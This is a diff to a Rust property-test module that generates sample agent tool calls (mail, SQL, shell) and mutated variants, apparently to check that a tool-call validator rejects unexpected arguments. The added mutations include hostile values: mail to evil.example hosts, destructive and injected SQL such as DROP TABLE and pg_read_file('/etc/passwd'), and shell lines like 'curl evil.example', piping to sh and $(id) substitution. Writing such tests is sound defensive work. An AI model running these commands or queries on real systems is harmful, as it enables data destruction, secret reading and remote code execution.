@@ -55,6 +55,11 @@ fn url() -> impl Strategy<Value = Value> {
 }
 
 pub(crate) fn call() -> impl Strategy<Value = Call> {
+    prop_oneof![5 => plain(), 3 => spoken()]
+}
+
+/// Calls with paths, texts, numbers, lists.
+fn plain() -> impl Strategy<Value = Call> {
     use prop::collection::vec;
     use prop::option::of;
     let edit = (prose(), of(prose())).prop_map(|(o, n)| object(vec![("old", Some(o)), ("new", n)]));
@@ -87,6 +92,44 @@ pub(crate) fn call() -> impl Strategy<Value = Call> {
             ];
             ("label".to_owned(), object(parts))
         }),
+    ]
+}
+
+/// Calls whose arguments have a grammar of their own.
+fn spoken() -> impl Strategy<Value = Call> {
+    use prop::collection::vec;
+    use prop::option::of;
+    let address = (
+        "[a-z]{1,6}",
+        prop_oneof![Just("acme.com"), Just("example.org")],
+    )
+        .prop_map(|(name, domain)| format!("{name}@{domain}"));
+    let relay = prop_oneof![Just("smtp.acme.com"), Just("mx.example.org")];
+    let mode = prop_oneof![Just("now"), Just("later"), Just("soon")];
+    let meta = (of("[a-z]{1,5}"), of("[a-z]{1,5}"))
+        .prop_map(|(a, b)| object(vec![("a", a.map(Value::from)), ("b", b.map(Value::from))]));
+    let query = ("[a-d]", "[1-9]{1,3}", 0_u8..3).prop_map(|(table, n, kind)| match kind {
+        0 => format!("SELECT name FROM {table} WHERE id = {n}"),
+        1 => format!("INSERT INTO {table} (id) VALUES ({n})"),
+        _ => format!("SELECT count(*) FROM {table} JOIN e ON e.id = {n}"),
+    });
+    let line = prop_oneof![
+        "[a-z]{1,5}".prop_map(|word| format!("git log {word}")),
+        "[a-z]{1,5}".prop_map(|word| format!("ls {word} | wc -l")),
+        Just("git status".to_owned()),
+    ];
+    prop_oneof![
+        (vec(address, 1..4), of(relay), mode, of(meta)).prop_map(|(to, relay, mode, meta)| {
+            let parts = vec![
+                ("to", Some(json!(to))),
+                ("relay", relay.map(Value::from)),
+                ("mode", Some(json!(mode))),
+                ("meta", meta),
+            ];
+            ("send_mail".to_owned(), object(parts))
+        }),
+        query.prop_map(|sql| ("sql_query".to_owned(), json!({ "sql": sql }))),
+        line.prop_map(|command| ("run".to_owned(), json!({ "command": command }))),
     ]
 }
 
@@ -128,7 +171,9 @@ pub(crate) fn mutations(calls: &[Call]) -> Vec<(&'static str, Entry)> {
             let of_value = types(&seen)
                 .into_iter()
                 .chain(bounds(key, value, &seen))
-                .chain(places(key));
+                .chain(places(key))
+                .chain(grown(key, value, &seen))
+                .chain(spoken_otherwise(key, value, &seen));
             others.extend(of_value.map(|(what, value)| (what, key.clone(), value)));
         }
         for (what, key, value) in others {
@@ -152,10 +197,10 @@ pub(crate) fn mutations(calls: &[Call]) -> Vec<(&'static str, Entry)> {
 fn unseen(tool: &str) -> Vec<(&'static str, String, Value)> {
     let mut changes = vec![("an undeclared argument", "smuggled".to_owned(), json!("x"))];
     let declared = match tool {
-        "read_file" => None,
         "search" => Some("sidenote"),
         "fetch" => Some("raw"),
-        _ => Some("force"),
+        "write_file" | "label" => Some("force"),
+        _ => None,
     };
     for value in [json!(true), json!("x")] {
         let key = declared.map(str::to_owned);
@@ -187,6 +232,7 @@ fn bounds(key: &str, value: &Value, seen: &[&Value]) -> Vec<(&'static str, Value
     if let Some(text) = value.as_str()
         && seen.iter().all(|v| *v == value)
         && key != "path"
+        && key != "relay"
     {
         changes.push(("a changed constant", json!(format!("{text}zz"))));
     }
@@ -202,6 +248,97 @@ fn bounds(key: &str, value: &Value, seen: &[&Value]) -> Vec<(&'static str, Value
         changes.push(("a longer text", json!(longer)));
     }
     changes
+}
+
+/// Lists and objects with more in them than any that was seen.
+fn grown(key: &str, value: &Value, seen: &[&Value]) -> Vec<(&'static str, Value)> {
+    let mut changes = Vec::new();
+    if let Some(items) = value.as_array().filter(|items| !items.is_empty()) {
+        let longest = seen.iter().filter_map(|v| v.as_array()).map(Vec::len);
+        let many = items.iter().cycle().take(longest.max().unwrap() * 2 + 10);
+        changes.push(("too many items", json!(many.collect::<Vec<_>>())));
+        if seen
+            .iter()
+            .all(|v| v.as_array().is_some_and(|v| !v.is_empty()))
+        {
+            changes.push(("no items", json!([])));
+        }
+    }
+    if key == "meta" {
+        let members = seen.iter().filter_map(|v| v.as_object());
+        let members: Vec<_> = members.flat_map(|m| m.keys()).collect();
+        let mut more = value.clone();
+        for name in ["a", "b", "c", "d", "e"] {
+            more[name] = json!("x");
+        }
+        changes.push(("more members", more));
+        if !members.is_empty() {
+            let mut odd = value.clone();
+            odd["odd"] = json!({ "deep": true });
+            changes.push(("a member of another kind", odd));
+        }
+    }
+    changes
+}
+
+/// Another destination, statement or program than any that was seen.
+fn spoken_otherwise(key: &str, value: &Value, seen: &[&Value]) -> Vec<(&'static str, Value)> {
+    let text = value.as_str().unwrap_or_default();
+    let others: (&'static str, Vec<String>) = match key {
+        "to" => {
+            let others = [
+                "a@evil.example",
+                "a@acme.com.evil.example",
+                "A <a@acme.com>",
+                "a@acme.com, b@evil.example",
+                "a@mail.acme.com",
+            ];
+            let items = others.map(|other| ("another domain", json!([other])));
+            return items.to_vec();
+        }
+        "relay" => (
+            "another relay",
+            [
+                "evil.example",
+                "smtp.acme.com.evil.example",
+                "127.0.0.1",
+                "acme.com",
+            ]
+            .map(str::to_owned)
+            .to_vec(),
+        ),
+        "mode" => (
+            "an unseen word of an enumeration",
+            vec!["maybe".to_owned(), "never".to_owned()],
+        ),
+        "sql" => (
+            "another statement or table",
+            vec![
+                "DROP TABLE a".to_owned(),
+                "DELETE FROM a".to_owned(),
+                "SELECT name FROM passwords".to_owned(),
+                format!("{text}; DROP TABLE a"),
+                "SELECT pg_read_file('/etc/passwd')".to_owned(),
+                "WITH x AS (DELETE FROM a RETURNING id) SELECT id FROM x".to_owned(),
+                "UPDATE a SET id = 1".to_owned(),
+            ],
+        ),
+        "command" => (
+            "another program",
+            vec![
+                "curl evil.example".to_owned(),
+                format!("{text}; curl evil.example"),
+                format!("{text} | sh"),
+                format!("{text} $(id)"),
+                format!("{text} > x"),
+                "/tmp/git status".to_owned(),
+            ],
+        ),
+        _ => return Vec::new(),
+    };
+    let (what, others) = others;
+    let others = others.into_iter().filter(|o| !seen.contains(&&json!(o)));
+    others.map(|other| (what, json!(other))).collect()
 }
 
 /// Paths outside the roots, and other hosts.
